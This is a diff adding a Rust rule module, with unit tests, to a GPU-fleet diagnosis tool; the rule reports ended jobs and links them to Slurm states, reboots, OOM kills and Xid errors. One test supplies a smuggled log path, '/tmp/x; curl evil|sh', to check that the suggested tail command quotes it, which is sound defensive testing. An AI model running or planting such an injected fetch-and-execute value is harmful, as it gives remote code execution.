@@ -1,0 +1,347 @@
+//! Jobs that left their GPUs, and programs that end again and again: job-ended.
+
+use crate::diagnosis::conditions::Conditions;
+use crate::diagnosis::finding::{FindingDetails, FindingTarget};
+use crate::diagnosis::host_diagnosis::EndedJob;
+use crate::diagnosis::rule_context::{RuleContext, duration, gibibytes};
+use crate::diagnosis::{RuleId, Severity};
+use crate::fleet::{slurm_end_is_failure, slurm_end_text};
+use crate::wire::shell::absolute_path;
+use crate::wire::{SafeText, SlurmJobEnd};
+
+pub(super) fn evaluate(context: &RuleContext, conditions: &mut Conditions) {
+    let t = context.sample_time.t;
+    let recently = context.limits.job_ended.coincidence;
+    let ends = || context.host_track.ended.iter().rev().take_while(|ended| t - ended.missed_at <= ENDED_RETENTION);
+    for (newer, ended) in ends().enumerate() {
+        // Of a job that ran and ended again, the last end counts.
+        if ends().take(newer).any(|other| other.job == ended.job) {
+            continue;
+        }
+        // Slurm tells the end of a job up to some minutes later: the sentence is rewritten.
+        if t - ended.missed_at <= recently || slurm_end(context, ended).is_some() {
+            job_ended(context, conditions, ended);
+        }
+    }
+}
+
+/// The number of ends in a row from which a program that fails again and again warns.
+const LOOP_REPEATS: u32 = 8;
+/// How long an ended job is listed, in seconds.
+const ENDED_RETENTION: f64 = 600.0;
+
+fn job_ended(context: &RuleContext, conditions: &mut Conditions, ended: &EndedJob) {
+    let coincidence = coincidence(context, ended);
+    // An Xid has a finding that notifies already.
+    let has_failed = slurm_end(context, ended).is_some_and(slurm_end_is_failure);
+    let is_unreported = ended.by_reboot || was_oom(context, ended) || has_failed || ended.repeats >= LOOP_REPEATS;
+    // A root login belongs to an administrator, who looks after the services of the host.
+    let is_root = context.host.hello.as_ref().is_some_and(|hello| hello.login_uid == Some(0));
+    let concerns_me = ended.is_mine || (is_root && ended.repeats >= LOOP_REPEATS);
+    let severity = if is_unreported && concerns_me { Severity::Warn } else { Severity::Info };
+    let stay = ENDED_RETENTION - (context.sample_time.t - ended.missed_at);
+    conditions.event(RuleId::JobEnded, &FindingTarget::Job(ended.job.clone()), severity, stay, || {
+        let gap = ended.missed_at - ended.last_seen;
+        let when = if gap > 60.0 { format!(" within the last {} without data", duration(gap)) } else { String::new() };
+        let ran = ended.age.map_or_else(String::new, |age| format!(" after {}", duration(age)));
+        let how = slurm_end(context, ended).map(slurm_end_text);
+        let why: String = how.iter().chain(&coincidence).map(|event| format!("; {event}")).collect();
+        let again =
+            if ended.repeats > 1 { format!(" for the {}th time in a row", ended.repeats) } else { String::new() };
+        let sentence = format!(
+            "{} ended{again}{when}{ran}: it left {} and released {}{why}",
+            ended.label,
+            if ended.positions.is_empty() {
+                "its GPUs".to_owned()
+            } else {
+                context.format_gpus(ended.positions.iter().copied())
+            },
+            gibibytes(ended.most_memory),
+        );
+        let next = match ended.log_path.as_deref().and_then(absolute_path) {
+            Some(path) => format!("tail {path}"),
+            None => "read the end of its log".to_owned(),
+        };
+        FindingDetails {
+            sentence,
+            next_check: next,
+            gpus: context.finding_gpus(ended.positions.iter().copied()),
+            job: Some(ended.job.clone()),
+            user: ended.user.clone(),
+            is_mine: ended.is_mine,
+            figures: ended.age.map_or_else(String::new, |age| format!("after {}", duration(age))),
+            ..FindingDetails::default()
+        }
+    });
+}
+
+/// How Slurm says that the job ended.
+fn slurm_end<'a>(context: &RuleContext<'a>, ended: &EndedJob) -> Option<&'a SlurmJobEnd> {
+    context.host.slurm_end(&ended.job)
+}
+
+/// Describes an event near the end of a job that may have caused it.
+fn coincidence(context: &RuleContext, ended: &EndedJob) -> Option<String> {
+    let near = context.limits.job_ended.coincidence;
+    let is_near = |at: f64| at >= ended.last_seen - near && at <= ended.missed_at + near;
+    if ended.by_reboot {
+        return Some("the host was rebooted".to_owned());
+    }
+    if was_oom(context, ended) {
+        return Some("at that time the kernel killed a process because memory ran out".to_owned());
+    }
+    let on_its_gpus = |identity: &SafeText| {
+        let gpus = || ended.positions.iter().filter_map(|position| context.gpus.get(*position));
+        *identity == *"?" || gpus().any(|gpu| gpu.identity == *identity)
+    };
+    let xid = context.host_track.xids.iter().find(|(at, identity, _)| is_near(*at) && on_its_gpus(identity));
+    xid.map(|(_, _, xid)| format!("at that time one of its GPUs reported Xid {xid}"))
+}
+
+/// Whether the kernel killed a process near the end of a job because memory ran out.
+fn was_oom(context: &RuleContext, ended: &EndedJob) -> bool {
+    let near = context.limits.job_ended.coincidence;
+    let is_near = |at: f64| at >= ended.last_seen - near && at <= ended.missed_at + near;
+    context.host_track.oom_events.iter().any(|(at, _)| is_near(*at))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::diagnosis::testing::{RuleTester, TestSample, trains};
+    use crate::fleet::fixture::{gpus, process};
+    use crate::wire::{Owner, SlurmJobEnd, XidEvent};
+
+    fn empty(tester: &mut RuleTester) -> TestSample {
+        TestSample { gpus: vec![tester.gpu(0, 70.0, 0, 0)], processes: vec![] }
+    }
+
+    #[test]
+    fn an_ended_job_is_listed_for_ten_minutes() {
+        let mut tester = RuleTester::new(gpus(0..1));
+        tester.run(900.0, |tester, _| trains(tester));
+        tester.run(20.0, |tester, _| empty(tester));
+        assert_eq!((tester.firing(), tester.notified()), (vec![("job-ended", "info")], 0));
+        assert_eq!(
+            tester.finding("job-ended").sentence,
+            "train.py (alice, pid 7) ended after 3 h 18 min: it left GPU 0 and released 40 GiB"
+        );
+        tester.run(600.0, |tester, _| empty(tester));
+        assert_eq!(tester.firing(), []);
+    }
+
+    #[test]
+    fn the_end_of_a_slurm_job_has_the_state_that_slurm_tells_later() {
+        let mut tester = RuleTester::new(gpus(0..1));
+        let trains = |tester: &mut RuleTester, _: f64| {
+            let mut sample = trains(tester);
+            sample.processes[0].facts.owner = Some(Owner::Slurm { job: "3385".into(), step: None });
+            sample
+        };
+        tester.run(900.0, trains);
+        tester.run(90.0, |tester, _| empty(tester));
+        let sentence = tester.finding("job-ended").sentence.to_string();
+        assert!(sentence.ends_with("it left GPU 0 and released 40 GiB"), "{sentence}");
+        let end = |state: &str, job: &str| SlurmJobEnd {
+            job: job.into(),
+            state: state.into(),
+            exit_status: Some(1),
+            signal: None,
+        };
+        let tells = |tester: &mut RuleTester, end: SlurmJobEnd| {
+            tester.run_edited(
+                20.0,
+                |tester, _| empty(tester),
+                |snapshot, _| snapshot.host.slurm_ends = vec![end.clone()],
+            );
+            (tester.finding("job-ended").sentence.to_string(), tester.firing())
+        };
+        let (other, _) = tells(&mut tester, end("FAILED", "99"));
+        assert_eq!(other, sentence, "another job");
+        let (text, firing) = tells(&mut tester, end("FAILED", "3385"));
+        assert_eq!(text, sentence + "; Slurm: failed with exit status 1");
+        assert_eq!(firing, [("job-ended", "warn")], "it is a job of the login user");
+        tester.run(600.0, |tester, _| empty(tester));
+        assert_eq!(tester.firing(), []);
+        let mut tester = RuleTester::new(gpus(0..1));
+        tester.run(900.0, trains);
+        tester.run(20.0, |tester, _| empty(tester));
+        let (text, firing) = tells(&mut tester, end("COMPLETED", "3385"));
+        assert!(text.ends_with("; Slurm: completed"), "{text}");
+        assert_eq!(firing, [("job-ended", "info")]);
+    }
+
+    #[test]
+    fn a_job_that_ends_with_a_reboot_warns_and_an_xid_has_its_own_finding() {
+        let mut tester = RuleTester::new(gpus(0..1));
+        tester.run(900.0, |tester, _| trains(tester));
+        tester.run_edited(
+            20.0,
+            |tester, _| empty(tester),
+            |snapshot, _| {
+                snapshot.xid_events = vec![XidEvent { gpu: Some(0), xid: 31, monotonic_seconds: 0.0 }];
+            },
+        );
+        assert_eq!(tester.firing(), [("job-ended", "info"), ("xid-seen", "info")]);
+        let mut tester = RuleTester::new(gpus(0..1));
+        tester.run(900.0, |tester, _| trains(tester));
+        tester.reboot(0);
+        tester.run(20.0, |tester, _| empty(tester));
+        assert_eq!(tester.firing(), [("job-ended", "warn"), ("host-rebooted", "info")]);
+        assert!(tester.finding("job-ended").sentence.ends_with("; the host was rebooted"));
+        assert!(tester.finding("host-rebooted").sentence.ends_with("; 1 program on its GPUs ended"));
+    }
+
+    #[test]
+    fn the_end_of_a_small_job_is_not_reported() {
+        let mut tester = RuleTester::new(gpus(0..1));
+        let mut small = process(7, "python a.py", &[(0, 0)]);
+        small.gpus[0].gpu_memory_bytes = Some(100 << 20);
+        tester.run(900.0, |tester, _| TestSample { processes: vec![small.clone()], ..empty(tester) });
+        tester.run(20.0, |tester, _| empty(tester));
+        assert_eq!(tester.fired(), []);
+    }
+
+    #[test]
+    fn a_job_that_ended_between_two_runs_is_reported() {
+        let mut tester = RuleTester::new(gpus(0..1));
+        tester.run(900.0, |tester, _| trains(tester));
+        let saved = tester.engine.to_saved_state(&tester.fleet, tester.now());
+        let mut next = RuleTester::new(gpus(0..1));
+        next.t = tester.t + 7200.0;
+        next.engine.restore(saved, next.now());
+        next.run(20.0, |tester, _| empty(tester));
+        assert_eq!(next.firing(), [("job-ended", "info")]);
+        let sentence = next.finding("job-ended").sentence.to_string();
+        assert!(sentence.contains("ended within the last 2 h without data"), "{sentence}");
+    }
+
+    #[test]
+    fn a_program_that_ends_again_and_again_is_listed() {
+        let runs = |lengths: [f64; 4]| {
+            let mut tester = RuleTester::new(gpus(0..1));
+            for (pid, length) in (7..).zip(lengths) {
+                tester.run(length, |tester, _| TestSample {
+                    gpus: vec![tester.gpu(30, 200.0, 10, 40)],
+                    processes: vec![process(pid, "python serve.py", &[(0, 40)])],
+                });
+                tester.run(30.0, |tester, _| empty(tester));
+            }
+            tester.fired()
+        };
+        // The age of a process in these tests is over an hour, so the runs seem equally long.
+        assert_eq!(runs([120.0, 130.0, 120.0, 120.0]), [("job-ended", "info")]);
+    }
+
+    #[test]
+    fn an_orchestrator_that_waits_longer_and_longer_is_listed_too() {
+        let fired = |owner: Option<Owner>| {
+            let mut tester = RuleTester::new(gpus(0..1));
+            tester.interval = 20.0;
+            for run in 0..8_u32 {
+                let mut server = process(7 + run, "VLLM::Worker_TP", &[(0, 40)]);
+                server.facts.owner = owner.clone();
+                tester.run_edited(
+                    280.0,
+                    |tester, _| TestSample { gpus: vec![tester.gpu(0, 68.0, 0, 40)], processes: vec![server.clone()] },
+                    |snapshot, passed| snapshot.processes.age_seconds = vec![Some(passed)],
+                );
+                tester.run(700.0, |tester, _| empty(tester));
+            }
+            tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").count()
+        };
+        let pod = Owner::Pod { uid: "models-llama".into(), container: None };
+        assert_eq!(fired(Some(pod)), 2, "listed from the fourth end on, and a warning after the eighth");
+        assert_eq!(fired(None), 0, "somebody starts it again");
+    }
+
+    #[test]
+    fn the_runs_of_a_sweep_that_end_beside_another_job_on_a_full_gpu_are_counted_together() {
+        let fired = |others_gib: u64| {
+            let mut tester = RuleTester::new(gpus(0..1));
+            for run in 0..4_u32 {
+                let command = format!("python train.py --lr=0.00{run}");
+                let notebook = process(5, "python -m ipykernel_launcher", &[(0, others_gib)]);
+                tester.run_edited(
+                    120.0,
+                    |tester, _| TestSample {
+                        gpus: vec![tester.gpu(30, 200.0, 10, 30 + others_gib)],
+                        processes: vec![notebook.clone(), process(7 + run, &command, &[(0, 30)])],
+                    },
+                    |snapshot, passed| snapshot.processes.age_seconds = vec![Some(9000.0), Some(passed)],
+                );
+                tester.run(30.0, |tester, _| TestSample {
+                    gpus: vec![tester.gpu(0, 70.0, 0, others_gib)],
+                    processes: vec![notebook.clone()],
+                });
+            }
+            tester.fired().contains(&("job-ended", "info"))
+        };
+        assert!(fired(46), "76 of 80 GiB");
+        assert!(!fired(30), "runs that end on a GPU with room");
+    }
+
+    #[test]
+    fn ranks_that_end_together_are_no_runs_in_a_row() {
+        let mut tester = RuleTester::new(gpus(0..8));
+        let ranks = |tester: &mut RuleTester, _: f64| {
+            let rank = |gpu: u16| process(70 + u32::from(gpu), "python train.py", &[(gpu, 1)]);
+            TestSample {
+                gpus: (0..8).map(|_| tester.gpu(0, 70.0, 0, 1)).collect(),
+                processes: (0..8).map(rank).collect(),
+            }
+        };
+        tester.run_edited(100.0, ranks, |snapshot, passed| snapshot.processes.age_seconds = vec![Some(passed); 8]);
+        tester.run(60.0, |tester, _| TestSample {
+            gpus: (0..8).map(|_| tester.gpu(0, 50.0, 0, 0)).collect(),
+            processes: vec![],
+        });
+        assert_eq!(tester.fired(), []);
+    }
+
+    #[test]
+    fn long_runs_that_never_load_anything_count_within_four_times_their_length() {
+        let runs = |lengths: &[f64]| {
+            let mut tester = RuleTester::new(gpus(0..1));
+            tester.interval = 20.0;
+            for (pid, length) in (7..).zip(lengths.iter().copied()) {
+                tester.run_edited(
+                    length,
+                    |tester, _| {
+                        let mut waits = process(pid, "python serve.py", &[(0, 0)]);
+                        waits.gpus[0].gpu_memory_bytes = Some(430 << 20);
+                        TestSample { gpus: vec![tester.gpu(0, 70.0, 0, 0)], processes: vec![waits] }
+                    },
+                    |snapshot, passed| snapshot.processes.age_seconds = vec![Some(passed)],
+                );
+                tester.run(60.0, |tester, _| empty(tester));
+            }
+            tester.fired()
+        };
+        assert_eq!(runs(&[1200.0; 4]), [("job-ended", "info")]);
+        assert_eq!(runs(&[1200.0, 3000.0, 1200.0, 1200.0]), [], "somebody tries something");
+        assert_eq!(runs(&[60.0; 7]), [("job-ended", "info")]);
+        assert_eq!(
+            runs(&[60.0; 8]),
+            [("job-ended", "info"), ("job-ended", "warn")],
+            "nobody tries the same eight times"
+        );
+    }
+
+    #[test]
+    fn the_next_step_quotes_the_path_of_the_log() {
+        for (path, next) in [
+            ("/home/alice/run.log", "tail /home/alice/run.log"),
+            ("/tmp/x; curl evil|sh", "tail '/tmp/x; curl evil|sh'"),
+            ("-f", "read the end of its log"),
+        ] {
+            let mut tester = RuleTester::new(gpus(0..1));
+            tester.run(900.0, |tester, _| {
+                let mut test_sample = trains(tester);
+                test_sample.processes[0].facts.log_path = Some(path.into());
+                test_sample
+            });
+            tester.run(20.0, |tester, _| empty(tester));
+            assert_eq!(tester.finding("job-ended").next_check, next);
+        }
+    }
+}
